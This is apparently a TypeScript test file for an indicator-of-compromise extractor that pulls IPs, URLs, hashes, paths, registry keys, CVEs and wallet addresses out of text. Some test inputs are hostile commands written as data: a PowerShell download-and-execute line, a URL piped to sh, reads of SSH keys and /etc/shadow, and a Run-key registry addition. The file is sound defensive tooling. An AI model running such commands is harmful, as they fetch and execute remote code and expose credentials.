import { describe, expect, it } from 'vitest';
import { extractIocs, type IocOptions, iocTypes } from './extract-iocs.ts';
import { keccak256 } from './iocs/keccak.ts';

const found = (text: string, options: IocOptions = { includePaths: true }): string[] =>
  extractIocs(text, options).map((ioc) => `${ioc.type} ${ioc.refanged}`);

describe('extractIocs', () => {
  it.each<[string, string[]]>([
    ['192.168.0.256 999.999.999.999 time 12:30:45 1.2.3.4', ['ipv4 1.2.3.4']],
    ['::ffff:192.0.2.128', ['ipv6 ::ffff:192.0.2.128', 'ipv4 192.0.2.128']],
    ['fe80::1%eth0 [2001:db8::1]:443 a::b ::', ['ipv6 fe80::1', 'ipv6 2001:db8::1', 'ipv6 a::b']],
    ['xn--e1afmkfd.xn--p1ai пример.рф', ['dns xn--e1afmkfd.xn--p1ai', 'dns пример.рф']],
    ['-bad-.example.com powershell -f run.ps1', ['dns example.com']],
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
      ['url http://203.0.113.9/a.ps1', 'ipv4 203.0.113.9'],
    ],
    [
      'see https://en.wikipedia.org/wiki/Foo_(bar), or (http://evil.com/x).',
      [
        'url https://en.wikipedia.org/wiki/Foo_(bar)',
        'dns en.wikipedia.org',
        'url http://evil.com/x',
        'dns evil.com',
      ],
    ],
    [
      'hxxps[:]//evil(.)example[dot]com/x?u=bad.org user[@]evil[.]com 8[.]8.8[.]8',
      [
        'url https://evil.example.com/x?u=bad.org',
        'dns evil.example.com',
        'dns bad.org',
        'email user@evil.com',
        'dns evil.com',
        'ipv4 8.8.8.8',
      ],
    ],
    [
      'some.one+tag@sub.example.co.uk,next',
      ['email some.one+tag@sub.example.co.uk', 'dns sub.example.co.uk'],
    ],
    [
      'd41d8cd98f00b204e9800998ecf8427e,D41D8CD98F00B204E9800998ECF8427F',
      ['md5_hash d41d8cd98f00b204e9800998ecf8427e', 'md5_hash D41D8CD98F00B204E9800998ECF8427F'],
    ],
    ['ab'.repeat(64).replace(/^/, 'sha512='), [`sha512_hash ${'ab'.repeat(64)}`]],
    ['ab'.repeat(65), []],
    [
      '\\??\\C:\\Windows\\system32\\conhost.exe C:\\Users\\a b\\c.txt \\\\10.0.0.1\\c$\\x',
      [
        'windows_path C:\\Windows\\system32\\conhost.exe',
        'windows_path C:\\Users\\a b\\c.txt',
        'windows_path \\\\10.0.0.1\\c$\\x',
        'ipv4 10.0.0.1',
      ],
    ],
    [
      'PATH=C:\\Program Files\\Git\\cmd;C:\\Windows;%SystemRoot%\\system32;$env:TEMP\\a.ps1; C:/b/c.exe',
      [
        'windows_path C:\\Program Files\\Git\\cmd',
        'windows_path C:\\Windows',
        'windows_path %SystemRoot%\\system32',
        'windows_path $env:TEMP\\a.ps1',
        'windows_path C:/b/c.exe',
      ],
    ],
    [
      "rundll32 C:\\a\\b.dll,Run; (C:\\c.exe).Length 'C:\\d.exe' C:\\e.cs:line 3 C:\\f.txt:ads \\\\?\\UNC\\s\\t\\g C:\\O'Neil\\h.exe&&C:\\i.",
      [
        'windows_path C:\\a\\b.dll',
        'windows_path C:\\c.exe',
        'windows_path C:\\d.exe',
        'windows_path C:\\e.cs',
        'windows_path C:\\f.txt:ads',
        'windows_path \\\\?\\UNC\\s\\t\\g',
        "windows_path C:\\O'Neil\\h.exe",
        'windows_path C:\\i',
      ],
    ],
    [
      'http://192.0.2.1/a;chmod +x a http://192.0.2.2/a.sh|sh;http://192.0.2.3/a;b=1,http://192.0.2.4 (http://192.0.2.5/a).b http://192.0.2.6/?u=%2Fexample.org',
      [
        'url http://192.0.2.1/a',
        'ipv4 192.0.2.1',
        'url http://192.0.2.2/a.sh',
        'ipv4 192.0.2.2',
        'url http://192.0.2.3/a;b=1',
        'ipv4 192.0.2.3',
        'url http://192.0.2.4',
        'ipv4 192.0.2.4',
        'url http://192.0.2.5/a',
        'ipv4 192.0.2.5',
        'url http://192.0.2.6/?u=%2Fexample.org',
        'ipv4 192.0.2.6',
        'dns example.org',
      ],
    ],
    [
      'cat ~/.ssh/id_rsa /etc/passwd:/etc/shadow; ./x.sh >/dev/null /c /q',
      [
        'linux_path ~/.ssh/id_rsa',
        'linux_path /etc/passwd',
        'linux_path /etc/shadow',
        'linux_path ./x.sh',
        'dns x.sh',
        'linux_path /dev/null',
      ],
    ],
    [
      'reg add "HKLM\\Software\\Microsoft\\Windows NT\\Run Once" /v x HKCU:\\Software\\Classes x \\REGISTRY\\MACHINE\\SYSTEM\\a',
      [
        'registry_key HKLM\\Software\\Microsoft\\Windows NT\\Run Once',
        'registry_key HKCU:\\Software\\Classes',
        'registry_key \\REGISTRY\\MACHINE\\SYSTEM\\a',
      ],
    ],
    [
      'CVE-2021-44228 cve-2024-3094x XCVE-2021-4422 T1059.001, TA0001 GT1059',
      ['cve CVE-2021-44228', 'cve cve-2024-3094', 'attack_id T1059.001', 'attack_id TA0001'],
    ],
  ])('%s', (text, expected) => expect(found(text)).toEqual(expected));

  it('takes wallets whose checksum is right, and only them', () => {
    const right = [
      'btc_wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa',
      'btc_wallet 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy',
      'btc_wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
      'btc_wallet bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0',
      'eth_wallet 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
      'doge_wallet DH5yaieqoZN36fDVciNyRueRGvGLR3mr7L',
    ];
    expect(found(right.map((w) => w.split(' ')[1]).join(' '))).toEqual(right);
    const wrong =
      '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5 0x5aaeb6053F3E94C9b9A09f33669435E7Ef1BeAed';
    expect(found(wrong)).toEqual(['sha1_hash 5aaeb6053F3E94C9b9A09f33669435E7Ef1BeAed']);
    expect(keccak256('')).toBe('c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470');
  });

  it('says where each stands, in either manner', () => {
    const text =
      'Ü a@b.com http://x.org/%41 C:\\a b\\c.exe HKLM\\a\\b 1.2.3.4 é evil[.]com ::1 /usr/bin/x';
    for (const msticpy of [false, true]) {
      const iocs = extractIocs(text, { includePaths: true, msticpy });
      expect(iocs.length).toBeGreaterThan(6);
      for (const ioc of iocs)
        if (!ioc.observable.includes('/A'))
          expect(text.slice(ioc.start, ioc.end)).toBe(ioc.observable);
    }
  });

  const units = [
    ...[
      'a',
      'A1',
      '.',
      'a.',
      '1.',
      'a-.',
      '\\',
      'a\\',
      ' \\',
      '/',
      'a/',
      ' /',
      '/ ',
      ':',
      'a:',
      '0:',
      '@',
      'a@',
      'a@a.',
      '::',
      '://',
      'http://',
      'http://a',
      'http://a@',
      '%41',
      '[.]',
      '[.',
      'a[.]',
      '[at]',
      'HKLM\\',
      'C:\\',
      '..\\',
      '0x',
      'é.',
      '1A',
      'CVE-',
      'T1',
      '-',
      'f',
      'f ',
    ],
    ...[
      'a.com ',
      'x@y.org,',
      'HKLM\\a b\\ ',
      '"HKLM\\',
      '\\\\a\\',
      'www.a.b.c.',
      '(',
      'http://(',
      "'http://",
      'bc1q',
      '12:30:',
      '~/',
      './',
    ],
  ];
  it.each(units)('takes time in proportion to a text of %s', (unit) => {
    const cpu = (length: number): number => {
      const text = unit.repeat(Math.ceil(length / unit.length));
      const start = process.cpuUsage();
      for (const msticpy of [false, true]) extractIocs(text, { types: iocTypes, msticpy });
      const { user, system } = process.cpuUsage(start);
      return (user + system) / 1000;
    };
    cpu(2000);
    expect(cpu(65_536)).toBeLessThan(4000);
    expect(cpu(524_288)).toBeLessThan(25_000);
  });
});
